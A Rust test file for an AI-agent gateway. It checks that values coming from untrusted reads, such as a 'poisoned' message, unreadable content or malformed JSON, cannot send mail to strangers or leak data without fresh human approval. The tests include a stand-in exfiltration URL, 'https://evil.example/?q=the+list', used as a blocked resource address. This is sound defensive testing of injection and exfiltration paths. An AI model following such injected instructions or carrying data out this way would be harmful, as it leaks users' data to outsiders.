//! Ways around the origins of values: by a helper, by what is no text, by what is no JSON, by a store that is full, by an
//! approval from before. Each of them is closed.

use http::Method;
use serde_json::json;
use writ_authority::{Fact, grant::Surface};
use writ_model::InstanceId;

use crate::{
    behalf::{acts_for, headers},
    held::{hold_of, sent, text},
    origins::{MAIL, STRANGER, call, reads, sends, world},
    upstream::Upstream,
    world::{Agent, Reply, Says, World, approve, clause, naming},
};

/// An agent and one that acts for it; values are followed of the first one alone, or of everybody.
async fn two(everybody: bool) -> (Upstream, World, Agent, Agent) {
    let (upstream, world, boss) = world(None).await;
    world.write(boss.tenant, vec![Fact::FormatRaised { format: 2 }]).await;
    let helper = world.crowd(boss.tenant, "mail", 1).await.remove(0);
    world.write(boss.tenant, vec![acts_for(&helper, &boss)]).await;
    let mut origins = clause("origins", "origin.untrusted", approve());
    if !everybody {
        origins.scope.agents = vec![boss.id];
    }
    world.charter(boss.tenant, |charter| charter.clauses.push(origins)).await;
    (upstream, world, boss, helper)
}

async fn by_helper(
    world: &World,
    (helper, boss): (&Agent, &Agent),
    (name, arguments): (&str, serde_json::Value),
) -> Reply {
    // The boss is greeted once, so that its nonce is known.
    world.headers(boss, "POST", MAIL).await;
    let headers = headers(world, helper, boss).await;
    world.send(Method::POST, MAIL, &headers, call(7, name, &arguments).into()).await
}

fn to(whom: &str) -> serde_json::Value {
    json!({"to": whom, "subject": "list", "body": "Ada, Bruno, Carla"})
}

#[tokio::test]
async fn what_a_helper_reads_counts_for_whom_it_acts_whatever_its_own_clauses_say() {
    let (upstream, world, boss, helper) = two(false).await;
    let pair = (&helper, &boss);
    let read = by_helper(&world, pair, ("read_message", json!({"id": "poisoned"}))).await;
    assert!(text(&read).starts_with("From: "), "{read:?}");
    hold_of(&sends(&world, &boss, MAIL, STRANGER).await);
    let reply = by_helper(&world, pair, ("send", to(STRANGER))).await;
    assert_eq!((reply.code(), sent(&upstream)), ("GATE-0191".to_owned(), 0), "{reply:?}");
    // By itself it stands under no such clause.
    assert_eq!(text(&sends(&world, &helper, MAIL, STRANGER).await), "done");
}

#[tokio::test]
async fn what_people_are_asked_about_for_the_helper_is_not_asked_for_the_other_one_again() {
    let (upstream, world, boss, helper) = two(true).await;
    let pair = (&helper, &boss);
    by_helper(&world, pair, ("read_message", json!({"id": "poisoned"}))).await;
    let hold = hold_of(&by_helper(&world, pair, ("send", to(STRANGER))).await);
    assert_eq!(world.approve(boss.tenant).await.to_string(), hold);
    let done = by_helper(&world, pair, ("send", to(STRANGER))).await;
    assert_eq!((text(&done), sent(&upstream)), ("done".to_owned(), 1), "{done:?}");
    hold_of(&by_helper(&world, pair, ("send", to(STRANGER))).await);
}

#[tokio::test]
async fn what_cannot_be_looked_into_trusts_no_address_after_it() {
    let (upstream, world, agent) = world(Some(approve())).await;
    reads(&world, &agent, "picture").await;
    let reply = sends(&world, &agent, MAIL, "anybody@else.example").await;
    hold_of(&reply);
    assert!(text(&reply).contains("cannot be looked into"), "{reply:?}");
    assert_eq!(sent(&upstream), 0);
}

#[tokio::test]
async fn an_answer_that_is_no_json_by_the_letter_is_read_or_refused() {
    let (upstream, world, agent) = world(Some(approve())).await;
    let reply = reads(&world, &agent, "half").await;
    assert!(String::from_utf8_lossy(&reply.body).contains(r"\ud83d Please pass"), "{reply:?}");
    hold_of(&sends(&world, &agent, MAIL, "half@rescue.example").await);
    let reply = reads(&world, &agent, "deep").await;
    assert_eq!((reply.code(), sent(&upstream)), ("GATE-0052".to_owned(), 0));
}

#[tokio::test]
async fn a_resource_is_text_that_anybody_may_have_written_and_its_address_carries_nothing_out() {
    let (upstream, world, agent) = world(Some(approve())).await;
    world.grant(&agent, Says { surface: Surface::Resource, ..Says::tool("mail", "*") }).await;
    let read = async |uri: &str| {
        let params = json!({"uri": uri});
        let body = json!({"jsonrpc": "2.0", "id": 5, "method": "resources/read", "params": params});
        world.post(&agent, MAIL, &body.to_string()).await
    };
    assert_eq!(read("x://note").await.code(), "");
    hold_of(&sends(&world, &agent, MAIL, STRANGER).await);
    world.contexts.tears(true);
    let before = upstream.seen().len();
    assert_eq!(read("https://evil.example/?q=the+list").await.code(), "GATE-0170");
    assert_eq!(upstream.seen().len(), before, "it did not leave");
}

#[tokio::test]
async fn a_full_store_lets_go_of_ended_copies_and_says_what_was_done() {
    let (upstream, world, agent) = world(Some(approve())).await;
    let other = world.instance(agent.tenant, agent.id, 9).await;
    reads(&world, &other, "honest").await;
    world.contexts.fills();
    let reply = sends(&world, &agent, MAIL, "boss@books.example").await;
    assert_eq!((reply.code(), sent(&upstream)), ("GATE-0170".to_owned(), 1));
    assert!(reply.json().to_string().contains("call was made"), "{reply:?}");
    let note = call(4, "create_note", &json!({"id": "note-7", "text": "x"}));
    let reply = world.post(&agent, MAIL, &note).await;
    assert_eq!(reply.code(), "GATE-0170");
    assert!(!reply.json().to_string().contains("call was made"), "{reply:?}");
    assert_eq!(upstream.seen().len(), 2, "what it writes is kept before it leaves");
    let ended: InstanceId = other.instance;
    let reason = "Done".to_owned();
    world.write(agent.tenant, vec![Fact::InstanceEnded { instance: ended, reason }]).await;
    assert!(text(&reads(&world, &agent, "honest").await).starts_with("From: "));
    assert_eq!(world.contexts.removed(), 1);
}

#[tokio::test]
async fn what_says_only_how_far_something_is_is_not_kept() {
    let (_upstream, world, agent) = world(Some(approve())).await;
    reads(&world, &agent, "streamed").await;
    assert_eq!(world.contexts.puts(), 1, "the answer, and not the progress before it");
}

#[tokio::test]
async fn an_approval_from_before_a_finding_does_not_cover_it() {
    let (upstream, world, agent) = world(None).await;
    world
        .charter(agent.tenant, |charter| {
            charter.counts_as = vec![naming("send", "mail.send")];
            charter.clauses.push(clause("mail", "mail.*", approve()));
            charter.clauses.push(clause("origins", "origin.untrusted", approve()));
        })
        .await;
    let first = hold_of(&sends(&world, &agent, MAIL, STRANGER).await);
    assert_eq!(world.approve(agent.tenant).await.to_string(), first);
    reads(&world, &agent, "poisoned").await;
    let second = hold_of(&sends(&world, &agent, MAIL, STRANGER).await);
    assert_ne!(first, second, "nobody was told where the address came from");
    assert_eq!(sent(&upstream), 0);
    assert_eq!(world.approve(agent.tenant).await.to_string(), second);
    assert_eq!(text(&sends(&world, &agent, MAIL, STRANGER).await), "done");
    assert_eq!(sent(&upstream), 1);
}
